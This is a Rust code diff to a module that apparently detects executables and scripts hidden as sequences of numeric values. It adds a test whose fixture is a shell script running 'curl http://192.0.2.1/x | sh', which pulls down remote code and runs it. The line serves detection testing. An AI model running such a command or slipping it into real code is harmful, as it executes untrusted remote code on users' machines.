@@ -15,7 +15,7 @@ const LAST_CODE: u64 = 0x2100;
 const BEGIN: usize = 3;
 /// How programs and modules begin.
 const BEGINS: &[&[u8]] =
-    &[b"MZ", b"\x7fEL", b"\0as", b"\xca\xfe\xba", b"\xcf\xfa\xed", b"\xce\xfa\xed", b"PK\x03", b"#!/"];
+    &[b"MZ", b"\x7fEL", b"\0as", b"\xca\xfe\xba", b"\xcf\xfa\xed", b"\xce\xfa\xed", b"PK\x03"];
 
 /// Numbers in the order in which they came.
 #[derive(Debug, Default)]
@@ -51,9 +51,9 @@ impl Spelled {
         true
     }
 
-    /// How many numbers there are.
-    pub(super) fn len(&self) -> usize {
-        self.numbers.len()
+    /// How many bytes they may spell.
+    pub(super) fn bytes(&self) -> usize {
+        self.numbers.len() * self.width
     }
 
     /// Whether they can spell so many bytes.
@@ -201,6 +201,11 @@ mod tests {
         assert_eq!(read[0], program);
         let read = spelled(program.iter().map(|byte| Value::I32((*byte).into())));
         assert_eq!(read[2], program);
+        // A script ends with its text, whatever comes after it.
+        let script = b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n";
+        let more = [0, 200].map(Value::I32);
+        let read = spelled(script.iter().map(|byte| Value::I32((*byte).into())).chain(more));
+        assert_eq!(read, [script.to_vec()]);
         for number in [-1, 7, 1 << 20, 65_536] {
             assert!(!Spelled::default().push(&Value::I32(number)), "{number}");
         }
